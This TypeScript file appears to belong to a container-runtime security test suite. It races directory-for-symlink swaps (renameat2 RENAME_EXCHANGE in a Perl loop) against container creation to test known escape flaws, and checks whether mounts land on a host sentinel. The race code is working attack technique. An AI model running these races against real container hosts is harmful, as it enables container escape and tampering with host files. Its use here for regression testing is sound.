/** Somebody exchanges directories for symlinks (renameat2(2), RENAME_EXCHANGE) while containers are made. */
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { LooseConfig } from '../../setup/base-config.ts';
import { execute } from '../../setup/execute.ts';
import type { Bundle } from '../../setup/rig.ts';
import { type Attack, Breach, must } from '../attack.ts';
import { reason, type Sentinel, type Target } from '../target.ts';

const RENAMEAT2 = process.arch === 'arm64' ? 276 : 316;

/** Exchanges the two of each pair until it is ended, or nobody is left to end it. */
function exchanging(pairs: readonly (readonly [string, string])[]): AsyncDisposable {
  const script = `my $parent = getppid; while (getppid == $parent) { for (my $i = 0; $i < @ARGV; $i += 2) {
    syscall(${RENAMEAT2}, -100, $ARGV[$i], -100, $ARGV[$i + 1], 2) } }`;
  const child = spawn('perl', ['-e', script, ...pairs.flat()], { stdio: 'ignore' });
  const ended = new Promise((resolve) => child.on('exit', resolve));
  return {
    [Symbol.asyncDispose]: async () => {
      child.kill('SIGKILL');
      await ended;
    },
  };
}

/** A directory and a symlink that take turns. */
function pair(folder: string, name: string, link: string): readonly [string, string] {
  const paths = [join(folder, name), join(folder, `${name}.link`)] as const;
  mkdirSync(paths[0], { recursive: true });
  symlinkSync(link, paths[1]);
  return paths;
}

interface Race {
  readonly config: (config: LooseConfig, bundle: Bundle, source: string) => void;
  readonly pairs: (bundle: Bundle, sentinel: Sentinel) => (readonly [string, string])[];
  /** How many of our mounts a container has that was made. */
  readonly mounts?: number;
}

/** Each container that is made says which mounts it has: a mount that is not there went elsewhere. */
async function race(target: Target, { config, pairs, mounts = 0 }: Race): Promise<string> {
  const sentinel = target.sentinel();
  const source = mkdtempSync(join(target.rig.path, 'source-'));
  mkdirSync(join(source, 'directory'));
  writeFileSync(join(source, 'file'), 'in the container\n');
  const bundle = target.bundle(undefined, (made, at) => {
    made.process.args = ['cat', '/proc/self/mountinfo'];
    config(made, at, source);
  });
  const counts = { made: 0, refused: 0 };
  let example = '';
  await using _ = exchanging(pairs(bundle, sentinel));
  for (let round = 0; round < target.rounds; round++) {
    const id = target.rig.id();
    const { code, stdout, ...rest } = await target.command(['run', '--bundle', bundle.path, id]);
    sentinel.check();
    if (code === 0) {
      counts.made += 1;
      const found = stdout.split('\n').filter((line) => line.includes(source)).length;
      must(found >= mounts, `${mounts - found} of ${mounts} mounts went elsewhere`);
    } else {
      counts.refused += 1;
      example ||= reason({ code, stdout, ...rest });
      await target.command(['delete', '--force', id]);
    }
  }
  const { stdout: hostMounts } = await execute('cat', ['/proc/self/mountinfo']);
  if (hostMounts.includes(sentinel.path)) throw new Breach('something is mounted on the host');
  return target.rounds === 0 || counts.refused === 0 ? 'all made inside' : example;
}

const bind = (source: string, destination: string) => ({
  ...{ destination, type: 'bind', source },
  options: ['bind'],
});

const sharedVolume: Race = {
  config: (made, { path }, source) => {
    made.mounts.push(
      bind(join(path, 'volume'), '/volume'),
      bind(join(source, 'directory'), '/volume/a'),
      bind(join(source, 'directory'), '/volume/b/made/deep'),
      bind(join(source, 'file'), '/volume/c/file'),
      { destination: '/volume/d', type: 'tmpfs', source, options: ['size=16k'] },
    );
    made.process.cwd = '/volume/e/made';
    made.linux.maskedPaths.push('/volume/f/secret');
    made.linux.readonlyPaths.push('/volume/g');
  },
  pairs: ({ path }, sentinel) =>
    ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name, index) =>
      pair(
        join(path, 'volume'),
        name,
        index % 2 === 0 ? sentinel.path : `../../../../../../..${sentinel.path}`,
      ),
    ),
  mounts: 4,
};

/** The image is another container's volume. */
const image: Race = {
  config: (made) => {
    made.mounts = made.mounts.filter(({ destination }: LooseConfig) => !destination.startsWith('/dev'));
    made.mounts.push(bind('/etc/hostname', '/etc/hostname'));
    made.linux.maskedPaths.push('/etc/secret');
    made.process.cwd = '/work/made';
  },
  pairs: ({ rootfs }, sentinel) =>
    ['proc', 'sys', 'dev', 'etc', 'work'].map((name) => {
      const elsewhere = pair(rootfs, `other-${name}`, sentinel.path);
      rmSync(elsewhere[0], { recursive: true });
      mkdirSync(join(rootfs, name), { recursive: true });
      return [join(rootfs, name), elsewhere[1]] as const;
    }),
};

/** The device that masks is exchanged for a symlink to where the host would be harmed. */
const nullDevice: Race = {
  config: (made) => {
    made.mounts = made.mounts.filter(({ destination }: LooseConfig) => !destination.startsWith('/dev'));
    made.linux.maskedPaths = ['/etc/secret', '/etc/other'];
    made.process.args = [
      'sh',
      '-c',
      'stat -c "%F %t:%T" /etc/secret | grep -q "device 1:3" || echo UNMASKED',
    ];
  },
  pairs: ({ rootfs }, sentinel) => {
    for (const name of ['secret', 'other']) writeFileSync(join(rootfs, 'etc', name), '');
    writeFileSync(join(rootfs, 'dev/null'), '');
    symlinkSync(join(sentinel.path, 'null'), join(rootfs, 'dev/null.link'));
    return [[join(rootfs, 'dev/null'), join(rootfs, 'dev/null.link')]];
  },
};

const attack = (claim: string, cve: string, what: Race): Attack => ({
  ...{ claim, cve, needs: ['busybox', 'perl'] },
  run: (target) => race(target, what),
});

export const races: readonly Attack[] = [
  attack(
    'a shared volume in which directories become symlinks while containers are made',
    'CVE-2021-30465, CVE-2024-45310',
    sharedVolume,
  ),
  attack('an image whose /proc, /sys, /dev, /etc become symlinks meanwhile', 'CVE-2026-41579', image),
  attack('an image whose /dev/null becomes a symlink meanwhile', 'CVE-2025-31133', nullDevice),
];
